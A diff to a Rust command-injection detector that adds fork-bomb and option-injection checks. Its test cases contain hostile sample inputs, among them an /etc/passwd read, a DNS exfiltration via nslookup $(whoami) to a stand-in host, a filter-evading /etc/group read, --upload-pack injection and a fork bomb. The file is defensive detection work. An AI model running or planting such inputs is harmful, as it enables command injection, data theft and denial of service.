@@ -1,7 +1,9 @@
 //! Shell commands where a value was expected.
 //!
 //! **What it finds.** An operator of a shell (`;`, `|`, `&`, the end of a line, `` ` ``, `$(`) followed by a whole
-//! command, where what stands before it is no command but a value: nothing, a name, a parameter, a closed quote.
+//! command, where what stands before it is no command but a value: nothing, a name, a parameter, a closed quote. The
+//! command may be put together from variables, pieces of the environment or the output of others. Also options with
+//! which common programs run a command, as the beginning of a value.
 //!
 //! **Why it matters.** A tool that puts the value into a command line runs the attacker's command (CWE-78).
 //!
@@ -15,6 +17,8 @@ use super::{
     markup::{follows_name, is_markup, sign_is_line_end},
     needles::NEEDLES,
     operator::{is_end, is_plain_word, may_begin_command, operator_at},
+    option::is_option,
+    written::{self, hands_out, is_program, is_put_together},
 };
 use crate::{
     detector::{Detector, Finds, Hit, Outcome},
@@ -43,9 +47,18 @@ fn confirm(view: &View<'_>, at: usize) -> Outcome {
     if bytes.len() > VALUE_BYTES_MAX {
         return Outcome::Clean { until: bytes.len() };
     }
+    if bytes[at] == b':' {
+        return fork_bomb(view, at);
+    }
+    if matches!(bytes[at], b'-' | b'p' | b'P' | b'e' | b'E') {
+        return option(view);
+    }
     let operator = operator_at(view, at);
     // Nearly all that follows such a sign in other text is declined by its first bytes.
-    if !may_begin_command(bytes.get(operator.end)) || is_plain_word(&bytes[operator.end..]) {
+    let rest = &bytes[operator.end..];
+    let plain = is_plain_word(rest);
+    let program = plain && is_program(rest);
+    if !may_begin_command(bytes.get(operator.end)) || plain && !program {
         return Outcome::Clean { until: at + 1 };
     }
     let line_end = bytes[at] == b'\n';
@@ -58,8 +71,11 @@ fn confirm(view: &View<'_>, at: usize) -> Outcome {
     if !is_value(view) {
         return Outcome::Clean { until: bytes.len() };
     }
-    let command = words::read(view.bytes(), operator.end);
-    let strength = commands::judge(&command);
+    let mut command = words::read(view.bytes(), operator.end);
+    written::drop_ending(&mut command);
+    let put_together = program || is_put_together(view.slice(operator.clone()), rest, &command);
+    let hidden = put_together && lead(view, operator.start, is_substitution(view, &operator)) == Lead::Value;
+    let strength = if hidden { Strength::Certain } else { commands::judge(&command) };
     if strength == Strength::None {
         return Outcome::Clean { until: operator.end };
     }
@@ -76,9 +92,48 @@ fn confirm(view: &View<'_>, at: usize) -> Outcome {
     Outcome::Found(if confidence < 0.6 { hit.rated(Severity::Low) } else { hit })
 }
 
+/// `:(){ :|:& };:`, which starts itself twice until nothing else runs.
+fn fork_bomb(view: &View<'_>, at: usize) -> Outcome {
+    let before = view.byte_run_before(at, 12, |byte| byte != b'\n');
+    let defines = memchr::memmem::find(&view.bytes()[before.clone()], b"(){").is_some()
+        || memchr::memmem::find(&view.bytes()[before.clone()], b"() {").is_some();
+    if !defines {
+        return Outcome::Clean { until: at + 1 };
+    }
+    let start = view.floor(before.start);
+    let why = "A function that starts itself twice takes up the machine.";
+    let span = start..at + 4;
+    let value = is_value(view) && !in_sentence(view, &span) && !in_backticks(view, &span);
+    let hit = Hit::text(span, None, if value { 0.9 } else { 0.5 }, why);
+    Outcome::Found(if value { hit } else { hit.rated(Severity::Low) })
+}
+
+/// A value that begins as an option of a program does.
+fn option(view: &View<'_>) -> Outcome {
+    let end = view.bytes().len();
+    if !is_option(view) {
+        return Outcome::Clean { until: end };
+    }
+    let why = "An option that runs a command or writes a file stands where a name should.";
+    Outcome::Found(Hit::text(0..end, None, 0.84, why))
+}
+
+/// A substitution that ends with its bracket; what follows may be the rest of a name, but not of a path or a sentence.
+fn closes_itself(view: &View<'_>, command: &Command) -> bool {
+    match &view.bytes()[command.end..] {
+        [b')' | b'`', b' ', ..] => false,
+        [b')' | b'`', after @ ..] => command.words.len() > 1 || !matches!(after.first(), Some(b'/' | b':')),
+        _ => false,
+    }
+}
+
+fn is_substitution(view: &View<'_>, operator: &Range<usize>) -> bool {
+    view.slice(operator.clone()).contains(['`', '$'])
+}
+
 /// How sure it is that `command` was smuggled in.
 fn confidence(view: &View<'_>, operator: &Range<usize>, command: &Command, strength: Strength) -> f64 {
-    let substitution = view.slice(operator.clone()).contains(['`', '$']);
+    let substitution = is_substitution(view, operator);
     if is_markup(view, operator, command) {
         return 0.0;
     }
@@ -86,10 +141,11 @@ fn confidence(view: &View<'_>, operator: &Range<usize>, command: &Command, stren
         return 0.0;
     }
     let lead = lead(view, operator.start, substitution);
-    let ends = is_end(view, command.end);
+    let ends = is_end(view, command.end) || substitution && closes_itself(view, command);
     match (lead, strength) {
         (Lead::Value, Strength::Certain) => 0.95,
         (Lead::Value, Strength::Strong) if ends => 0.88,
+        (Lead::Value, Strength::Strong) if in_sentence(view, &(operator.start..command.end)) => 0.0,
         (Lead::Value, Strength::Strong) => 0.6,
         (Lead::Value, Strength::Weak) if ends && command.words.len() == 1 => 0.45,
         (Lead::Words, Strength::Certain) => 0.85,
@@ -98,6 +154,7 @@ fn confidence(view: &View<'_>, operator: &Range<usize>, command: &Command, stren
             let span = operator.start..command.end;
             if deliberate && !in_sentence(view, &span) && !in_backticks(view, &span) { 0.82 } else { 0.5 }
         }
+        (Lead::Script, _) if hands_out(&view.bytes()[operator.end..], command) => 0.9,
         (Lead::Script, Strength::Certain) if command.disguised => 0.6,
         _ => 0.0,
     }
@@ -125,6 +182,11 @@ mod tests {
                 ("file & dir C:\\", 5..14),
                 ("|w^h^o^a^m^i", 0..12),
                 ("x;{cat,/etc/passwd}", 1..18),
+                ("x;nslookup $(whoami).e.example", 1..19),
+                ("a$(touch /tmp/x).png", 1..15),
+                ("x;cat ${HOME:0:1}etc${HOME:0:1}group", 1..36),
+                ("--upload-pack=/tmp/x", 0..20),
+                (":(){ :|:& };:", 0..9),
             ],
             &[
                 "npm install && npm test",
@@ -138,6 +200,9 @@ mod tests {
                 "https://example.org/?a=1&id=3&sort=name&type=x",
                 "OS=$(uname -s)",
                 "string | null",
+                "Use $(pwd) to name the folder.",
+                "            .find(|env| host.ends_with(env))",
+                "find . -name '*.log' -exec rm {} +",
             ],
         );
     }
